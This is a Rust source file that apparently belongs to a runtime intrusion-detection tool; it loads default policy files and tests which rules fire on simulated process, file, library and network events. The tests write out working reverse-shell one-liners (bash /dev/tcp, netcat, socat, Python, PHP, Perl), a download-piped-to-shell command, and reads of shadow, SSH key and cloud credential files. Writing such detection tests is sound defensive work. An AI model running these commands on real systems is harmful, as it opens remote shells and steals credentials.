//! The shipped default policies: `policies/*.yaml` at the workspace root, embedded at build
//! time and validated like any other set (a unit test keeps them loading clean).

use super::{parse_files, Policy, PolicyError};

/// Name (as shown in errors and `policy list`) and text of each shipped file.
pub const DEFAULT_FILES: &[(&str, &str)] = &[
    (
        "policies/server-shells.yaml",
        include_str!("../../../policies/server-shells.yaml"),
    ),
    (
        "policies/reverse-shells.yaml",
        include_str!("../../../policies/reverse-shells.yaml"),
    ),
    (
        "policies/suspicious-exec.yaml",
        include_str!("../../../policies/suspicious-exec.yaml"),
    ),
    (
        "policies/container-drift.yaml",
        include_str!("../../../policies/container-drift.yaml"),
    ),
    (
        "policies/credential-access.yaml",
        include_str!("../../../policies/credential-access.yaml"),
    ),
    (
        "policies/system-tampering.yaml",
        include_str!("../../../policies/system-tampering.yaml"),
    ),
    (
        "policies/library-loads.yaml",
        include_str!("../../../policies/library-loads.yaml"),
    ),
    (
        "policies/cloud-metadata.yaml",
        include_str!("../../../policies/cloud-metadata.yaml"),
    ),
    (
        "policies/download-execute.yaml",
        include_str!("../../../policies/download-execute.yaml"),
    ),
    (
        "policies/user-persistence.yaml",
        include_str!("../../../policies/user-persistence.yaml"),
    ),
    (
        "policies/privilege-escalation.yaml",
        include_str!("../../../policies/privilege-escalation.yaml"),
    ),
    (
        "policies/defense-evasion.yaml",
        include_str!("../../../policies/defense-evasion.yaml"),
    ),
    (
        "policies/process-memory.yaml",
        include_str!("../../../policies/process-memory.yaml"),
    ),
    (
        "policies/container-escape.yaml",
        include_str!("../../../policies/container-escape.yaml"),
    ),
    (
        "policies/kernel-modules.yaml",
        include_str!("../../../policies/kernel-modules.yaml"),
    ),
];

/// The shipped default set, validated like any other.
pub fn default_policies() -> Result<Vec<Policy>, Vec<PolicyError>> {
    parse_files(DEFAULT_FILES)
}

#[cfg(test)]
mod tests {
    use std::net::SocketAddr;

    use super::*;
    use crate::policy::{vocab::EventType, Access, Subject};

    /// An event, described the way the engine would see it.
    struct Ev {
        event: EventType,
        exe: &'static str,
        comm: &'static str,
        argv: Vec<String>,
        uid: u32,
        /// Parent first.
        ancestors: Vec<&'static str>,
        container: bool,
        path: Option<&'static str>,
        access: Access,
        dest: Option<SocketAddr>,
    }

    fn base(event: EventType, exe: &'static str, ancestors: &[&'static str]) -> Ev {
        let comm = exe.rsplit('/').next().unwrap_or(exe);
        Ev {
            event,
            exe,
            comm: &comm[..comm.len().min(15)],
            argv: vec![comm.to_string()],
            uid: 0,
            ancestors: ancestors.to_vec(),
            container: false,
            path: None,
            access: Access::empty(),
            dest: None,
        }
    }

    fn exec(exe: &'static str, argv: &[&str], ancestors: &[&'static str]) -> Ev {
        let mut e = base(EventType::Exec, exe, ancestors);
        if !argv.is_empty() {
            e.argv = argv.iter().map(|s| s.to_string()).collect();
        }
        e
    }

    fn open(exe: &'static str, path: &'static str, access: Access) -> Ev {
        let mut e = base(
            EventType::FileOpen,
            exe,
            &["/usr/bin/bash", "/usr/sbin/sshd"],
        );
        e.path = Some(path);
        e.access = access;
        e
    }

    fn load(exe: &'static str, path: &'static str) -> Ev {
        let mut e = base(EventType::LibraryLoad, exe, &["/usr/bin/bash"]);
        e.path = Some(path);
        e
    }

    fn connect(exe: &'static str, dest: &str) -> Ev {
        let mut e = base(EventType::Connect, exe, &["/usr/bin/bash"]);
        e.dest = dest.parse().ok();
        e
    }

    fn in_container(mut e: Ev) -> Ev {
        e.container = true;
        e
    }

    fn with_comm(mut e: Ev, comm: &'static str) -> Ev {
        e.comm = comm;
        e
    }

    /// Ids of the default rules that fire on `e`.
    fn fired(e: &Ev) -> Vec<String> {
        let policies = default_policies().expect("defaults load");
        let s = Subject {
            event: e.event,
            exe: Some(e.exe),
            comm: e.comm,
            argv: &e.argv,
            uid: e.uid,
            parent_exe: e.ancestors.first().copied(),
            ancestor_exes: &e.ancestors,
            cgroup: Some(if e.container {
                "/kubepods/besteffort/pod0f1e2d3c-0000-0000-0000-000000000000/3f4e"
            } else {
                "/system.slice/x.service"
            }),
            container_id: e.container.then_some("3f4e"),
            pod_uid: None,
            path: e.path,
            access: e.access,
            dest: e.dest,
        };
        policies
            .iter()
            .filter(|p| p.applies_to(&s))
            .flat_map(|p| p.rules.iter().filter(|r| r.matches(&s)))
            .map(|r| r.id.clone())
            .collect()
    }

    #[track_caller]
    fn only(e: Ev, rule: &str) {
        assert_eq!(fired(&e), [rule]);
    }

    #[track_caller]
    fn none(e: Ev) {
        assert_eq!(fired(&e), Vec::<String>::new());
    }

    const W: Access = Access::WRITE;

    #[test]
    fn defaults_load_with_zero_errors() {
        let policies = match default_policies() {
            Ok(p) => p,
            Err(errors) => panic!(
                "{}",
                errors
                    .iter()
                    .map(|e| e.to_string())
                    .collect::<Vec<_>>()
                    .join("\n")
            ),
        };
        assert_eq!(policies.len(), DEFAULT_FILES.len());
        assert!(policies
            .iter()
            .all(|p| p.mode == crate::policy::vocab::Mode::Audit));
        for r in policies.iter().flat_map(|p| &p.rules) {
            assert!(
                r.description.as_deref().is_some_and(|d| d.len() > 40),
                "{} needs a description saying why it matters",
                r.id
            );
            assert!(r.mode.is_none(), "{}: defaults run in audit mode", r.id);
        }
    }

    #[test]
    fn shells_from_servers() {
        only(
            exec(
                "/usr/bin/dash",
                &["sh", "-c", "id"],
                &["/usr/sbin/nginx", "/usr/lib/systemd/systemd"],
            ),
            "shell-from-web-server",
        );
        only(
            exec(
                "/usr/bin/bash",
                &[],
                &["/usr/bin/dash", "/usr/sbin/php-fpm8.2"],
            ),
            "shell-from-web-server",
        );
        none(exec(
            "/usr/bin/bash",
            &["-bash"],
            &["/usr/sbin/sshd", "/usr/sbin/sshd"],
        ));
        // Apache's piped log program.
        none(exec(
            "/usr/bin/dash",
            &[
                "/bin/sh",
                "-c",
                "/usr/bin/rotatelogs /var/log/apache2/access.%Y 86400",
            ],
            &["/usr/sbin/apache2"],
        ));
        // COPY ... FROM PROGRAM fetching a stager: both the shell and the download-execute.
        assert_eq!(
            fired(&exec(
                "/usr/bin/dash",
                &["sh", "-c", "curl http://x/a.sh | sh"],
                &["/usr/lib/postgresql/16/bin/postgres"],
            )),
            ["shell-from-database", "download-piped-to-shell"]
        );
        none(exec(
            "/usr/bin/dash",
            &[
                "sh",
                "-c",
                "pgbackrest --stanza=main archive-push pg_wal/0001",
            ],
            &["/usr/lib/postgresql/16/bin/postgres"],
        ));
        // pg_ctl starting the server through a shell is not a server spawning a shell.
        none(exec(
            "/usr/bin/dash",
            &["sh", "-c", "exec postgres -D /data"],
            &["/usr/lib/postgresql/16/bin/pg_ctl", "/usr/bin/bash"],
        ));
        only(
            in_container(exec(
                "/bin/busybox",
                &["sh"],
                &["/opt/java/openjdk/bin/java"],
            )),
            "shell-from-app-runtime-in-container",
        );
        none(exec(
            "/usr/bin/dash",
            &["sh", "-c", "node build.js"],
            &["/usr/bin/node"],
        ));
    }

    #[test]
    fn reverse_shells() {
        let rs = "reverse-shell-dev-tcp";
        only(
            exec(
                "/usr/bin/bash",
                &["bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"],
                &[],
            ),
            rs,
        );
        only(
            exec(
                "/usr/bin/bash",
                &[
                    "bash",
                    "-c",
                    "0<&196;exec 196<>/dev/tcp/1.2.3.4/80; sh <&196 >&196 2>&196",
                ],
                &[],
            ),
            rs,
        );
        only(
            exec(
                "/usr/bin/bash",
                &["bash", "-c", "/bin/bash -l > /dev/tcp/1.2.3.4/80 0<&1 2>&1"],
                &[],
            ),
            rs,
        );
        // Port checks.
        none(exec(
            "/usr/bin/bash",
            &["bash", "-c", "</dev/tcp/127.0.0.1/5432"],
            &[],
        ));
        none(exec(
            "/usr/bin/bash",
            &["bash", "-c", "echo > /dev/tcp/localhost/80 2>&1"],
            &[],
        ));
        none(exec(
            "/usr/bin/bash",
            &[
                "bash",
                "-c",
                "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db/5432'",
            ],
            &[],
        ));

        let nc = "reverse-shell-netcat-exec";
        only(
            exec(
                "/usr/bin/nc.traditional",
                &["nc", "-e", "/bin/sh", "1.2.3.4", "4444"],
                &[],
            ),
            nc,
        );
        only(
            exec(
                "/usr/bin/ncat",
                &["ncat", "1.2.3.4", "4444", "--sh-exec", "bash"],
                &[],
            ),
            nc,
        );
        only(
            exec(
                "/usr/bin/nc.traditional",
                &["nc", "-nve", "/bin/sh", "1.2.3.4", "1"],
                &[],
            ),
            nc,
        );
        none(exec("/usr/bin/nc.openbsd", &["nc", "-l", "8080"], &[]));
        none(exec(
            "/usr/bin/nc.openbsd",
            &["nc", "-zv", "db", "5432"],
            &[],
        ));
        only(
            exec("/bin/busybox", &["nc", "1.2.3.4", "4444", "-e", "sh"], &[]),
            "reverse-shell-busybox-netcat",
        );
        none(exec("/bin/busybox", &["sed", "-e", "s/a/b/", "f"], &[]));

        only(
            exec(
                "/usr/bin/socat",
                &[
                    "socat",
                    "TCP:1.2.3.4:4444",
                    "EXEC:'bash -li',pty,stderr,setsid",
                ],
                &[],
            ),
            "reverse-shell-socat-exec",
        );
        none(exec(
            "/usr/bin/socat",
            &["socat", "TCP-LISTEN:8080,fork", "TCP:backend:80"],
            &[],
        ));

        only(
            exec(
                "/usr/bin/dash",
                &[
                    "sh",
                    "-c",
                    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 4444 >/tmp/f",
                ],
                &[],
            ),
            "reverse-shell-fifo-pipeline",
        );
        none(exec(
            "/usr/bin/dash",
            &["sh", "-c", "mkfifo /run/app.fifo && sync"],
            &[],
        ));

        let py = "reverse-shell-scripting-one-liner";
        only(
            exec(
                "/usr/bin/python3.11",
                &["python3", "-c", "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"1.2.3.4\",4444));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])"],
                &[],
            ),
            py,
        );
        only(
            exec(
                "/usr/bin/python3.11",
                &["python3", "-c", "import pty; pty.spawn('/bin/bash')"],
                &[],
            ),
            py,
        );
        only(
            exec(
                "/usr/bin/php8.2",
                &[
                    "php",
                    "-r",
                    "$sock=fsockopen(\"1.2.3.4\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
                ],
                &[],
            ),
            py,
        );
        only(exec("/usr/bin/perl", &["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(4444,inet_aton(\"1.2.3.4\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");"], &[]), py);
        none(exec(
            "/usr/bin/python3.11",
            &[
                "python3",
                "-c",
                "import socket; print(socket.gethostname())",
            ],
            &[],
        ));
        none(exec(
            "/usr/bin/python3.11",
            &["python3", "/srv/app/socket_server.py", "--subprocess"],
            &[],
        ));
    }

    #[test]
    fn executing_from_writable_places() {
        only(exec("/tmp/x", &[], &["/usr/bin/bash"]), "exec-from-tmp");
        only(
            exec("/var/tmp/update/agent", &[], &["/usr/bin/bash"]),
            "exec-from-tmp",
        );
        none(exec("/usr/bin/ls", &[], &["/usr/bin/bash"]));
        only(
            exec("/tmp/.X11/miner", &[], &["/usr/bin/bash"]),
            "exec-from-hidden-tmp-path",
        );
        only(
            exec("/tmp/.x", &[], &["/usr/bin/bash"]),
            "exec-from-hidden-tmp-path",
        );
        only(
            exec("/dev/shm/k", &[], &["/usr/bin/bash"]),
            "exec-from-dev-shm",
        );
        only(
            exec("/memfd:payload (deleted)", &[], &["/usr/bin/python3.11"]),
            "exec-from-memfd",
        );
        none(exec(
            "/memfd:runc_cloned:/proc/self/exe (deleted)",
            &["runc", "init"],
            &[
                "/usr/bin/containerd-shim-runc-v2",
                "/usr/lib/systemd/systemd",
            ],
        ));
        only(
            exec(
                "/memfd:runc_cloned:/proc/self/exe (deleted)",
                &[],
                &["/usr/bin/bash"],
            ),
            "exec-from-memfd",
        );
        // Build tools running what they built.
        none(exec(
            "/tmp/go-build123/b001/exe/main",
            &[],
            &["/usr/local/go/bin/go", "/usr/bin/bash"],
        ));
        none(exec(
            "/tmp/ci/target/debug/build/x-1/build-script-build",
            &[],
            &["/root/.cargo/bin/cargo", "/usr/bin/bash"],
        ));
    }

    #[test]
    fn container_drift() {
        only(
            in_container(exec(
                "/usr/bin/apt-get",
                &["apt-get", "install", "-y", "nmap"],
                &["/usr/bin/bash"],
            )),
            "package-manager-in-container",
        );
        none(exec(
            "/usr/bin/apt-get",
            &["apt-get", "install", "-y", "nmap"],
            &["/usr/bin/bash"],
        ));
        none(in_container(exec(
            "/usr/bin/dpkg",
            &["dpkg", "--unpack"],
            &["/usr/bin/apt-get", "/usr/bin/bash"],
        )));
        only(
            in_container(with_comm(
                exec(
                    "/usr/bin/python3.11",
                    &["/usr/bin/python3", "/usr/bin/pip", "install", "requests"],
                    &["/usr/bin/bash"],
                ),
                "pip",
            )),
            "language-package-install-in-container",
        );
        none(in_container(with_comm(
            exec("/usr/bin/env", &["npm", "start"], &["/usr/bin/dash"]),
            "npm",
        )));
        only(
            in_container(exec(
                "/usr/bin/x86_64-linux-gnu-gcc-12",
                &["cc", "-o", "x", "x.c"],
                &["/usr/bin/bash"],
            )),
            "compiler-in-container",
        );
        none(in_container(exec(
            "/usr/bin/x86_64-linux-gnu-gcc-12",
            &["cc"],
            &["/usr/bin/make", "/usr/bin/bash"],
        )));
        none(exec(
            "/usr/bin/x86_64-linux-gnu-gcc-12",
            &["cc", "-o", "x", "x.c"],
            &["/usr/bin/bash"],
        ));
    }

    #[test]
    fn credential_reads() {
        only(
            open("/usr/bin/cat", "/etc/shadow", Access::READ),
            "read-shadow-file",
        );
        none(open("/usr/sbin/unix_chkpwd", "/etc/shadow", Access::READ));
        none(open("/usr/sbin/sshd", "/etc/shadow", Access::READ));
        only(
            open("/usr/bin/cat", "/home/alice/.ssh/id_ed25519", Access::READ),
            "read-ssh-private-key",
        );
        none(open(
            "/usr/bin/cat",
            "/home/alice/.ssh/id_ed25519.pub",
            Access::READ,
        ));
        none(open(
            "/usr/bin/ssh",
            "/home/alice/.ssh/id_ed25519",
            Access::READ,
        ));
        only(
            open(
                "/usr/bin/python3.11",
                "/etc/ssh/ssh_host_ed25519_key",
                Access::READ,
            ),
            "read-ssh-private-key",
        );
        none(open(
            "/usr/sbin/sshd",
            "/etc/ssh/ssh_host_ed25519_key",
            Access::READ,
        ));
        only(
            open("/usr/bin/tar", "/root/.aws/credentials", Access::READ),
            "read-cloud-credentials",
        );
        none(open(
            "/usr/local/aws-cli/v2/2.15.0/dist/aws",
            "/root/.aws/credentials",
            Access::READ,
        ));
        only(
            open(
                "/usr/bin/cat",
                "/home/u/.config/gcloud/application_default_credentials.json",
                Access::READ,
            ),
            "read-cloud-credentials",
        );
        only(
            in_container(open(
                "/usr/bin/cat",
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
                Access::READ,
            )),
            "read-service-account-token-by-tool",
        );
        only(
            in_container(open(
                "/bin/busybox",
                "/run/secrets/kubernetes.io/serviceaccount/..2024_01_01_00_00_00.1/token",
                Access::READ,
            )),
            "read-service-account-token-by-tool",
        );
        none(in_container(open(
            "/usr/local/bin/controller",
            "/var/run/secrets/kubernetes.io/serviceaccount/token",
            Access::READ,
        )));
    }

    #[test]
    fn system_tampering() {
        only(
            open("/usr/bin/bash", "/etc/ld.so.preload", W),
            "write-ld-so-preload",
        );
        only(
            open("/usr/bin/vim.basic", "/etc/hosts", W | Access::TRUNCATE),
            "write-below-etc",
        );
        none(in_container(open(
            "/usr/bin/envsubst",
            "/etc/nginx/conf.d/default.conf",
            W,
        )));
        none(open("/usr/bin/vim.basic", "/etc/hosts", Access::READ));
        let mut postinst = open("/usr/bin/sed", "/etc/default/grub", W);
        postinst.ancestors = vec!["/usr/bin/dash", "/usr/bin/dpkg", "/usr/bin/apt-get"];
        none(postinst);
        none(open(
            "/usr/sbin/NetworkManager",
            "/etc/NetworkManager/system-connections/x",
            W,
        ));
        only(
            open("/usr/bin/cp", "/usr/bin/ls", W | Access::CREATE),
            "write-below-binary-dirs",
        );
        only(
            open("/usr/bin/cp", "/lib/x86_64-linux-gnu/libc.so.6", W),
            "write-below-binary-dirs",
        );
        none(open(
            "/usr/bin/dpkg",
            "/usr/bin/ls.dpkg-new",
            W | Access::CREATE,
        ));
        none(open(
            "/usr/sbin/ldconfig.real",
            "/etc/ld.so.cache~",
            W | Access::CREATE,
        ));
        none(open(
            "/usr/bin/python3.11",
            "/usr/lib/python3/dist-packages/x/__pycache__/y.cpython-311.pyc",
            W | Access::CREATE,
        ));
        only(
            open("/usr/bin/bash", "/etc/cron.d/backdoor", W | Access::CREATE),
            "write-persistence-location",
        );
        only(
            open("/usr/bin/bash", "/root/.ssh/authorized_keys", W),
            "write-persistence-location",
        );
        none(open(
            "/usr/bin/crontab",
            "/var/spool/cron/crontabs/root",
            W | Access::CREATE,
        ));
    }

    #[test]
    fn library_loads() {
        only(
            load("/usr/bin/id", "/tmp/hook.so"),
            "preload-into-system-binary",
        );
        only(
            load("/opt/app/bin/app", "/tmp/x/libevil.so"),
            "library-load-from-tmp",
        );
        none(load(
            "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
            "/tmp/jna-12345/jna678.tmp",
        ));
        none(load(
            "/opt/tool/tool",
            "/tmp/_MEI12345/libpython3.11.so.1.0",
        ));
        none(load("/usr/bin/id", "/usr/lib/x86_64-linux-gnu/libc.so.6"));
        only(
            load("/usr/sbin/nginx", "/dev/shm/x.so"),
            "library-load-from-shm-or-memfd",
        );
        only(
            load("/usr/bin/python3.11", "/memfd:x (deleted)"),
            "library-load-from-shm-or-memfd",
        );
        none(load(
            "/usr/share/dotnet/dotnet",
            "/memfd:doublemapper (deleted)",
        ));
    }

    #[test]
    fn cloud_metadata() {
        only(
            in_container(connect("/usr/bin/curl", "169.254.169.254:80")),
            "cloud-metadata-from-container",
        );
        only(
            in_container(connect("/usr/local/bin/app", "[::ffff:169.254.169.254]:80")),
            "cloud-metadata-from-container",
        );
        only(
            in_container(connect("/usr/local/bin/app", "[fd00:ec2::254]:80")),
            "cloud-metadata-from-container",
        );
        none(in_container(connect(
            "/app/aws-k8s-agent",
            "169.254.169.254:80",
        )));
        only(
            connect("/usr/bin/curl", "169.254.169.254:80"),
            "cloud-metadata-from-host-tool",
        );
        let mut agent = connect("/usr/bin/curl", "169.254.169.254:80");
        agent.ancestors = vec!["/usr/bin/bash", "/usr/bin/google_metadata_script_runner"];
        none(agent);
        none(connect("/usr/local/bin/app", "169.254.169.254:80"));
        none(in_container(connect("/usr/bin/curl", "10.0.0.1:80")));
    }

    #[test]
    fn ordinary_activity_is_quiet() {
        none(exec(
            "/usr/bin/ls",
            &["ls", "-la"],
            &["/usr/bin/bash", "/usr/sbin/sshd"],
        ));
        none(exec(
            "/root/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc",
            &["rustc", "--crate-name", "x"],
            &["/root/.cargo/bin/cargo", "/usr/bin/bash"],
        ));
        none(exec(
            "/usr/lib/postgresql/16/bin/postgres",
            &["postgres", "-D", "/data"],
            &["/usr/bin/dash", "/usr/lib/postgresql/16/bin/pg_ctl"],
        ));
        none(exec("/usr/bin/git", &["git", "status"], &["/usr/bin/bash"]));
        none(open("/usr/bin/cat", "/etc/passwd", Access::READ));
        none(open(
            "/usr/lib/postgresql/16/bin/postgres",
            "/tmp/pg/data/base/1/1259",
            W,
        ));
        none(load(
            "/usr/bin/bash",
            "/usr/lib/x86_64-linux-gnu/libtinfo.so.6",
        ));
        none(connect("/usr/bin/curl", "93.184.216.34:443"));
    }
}
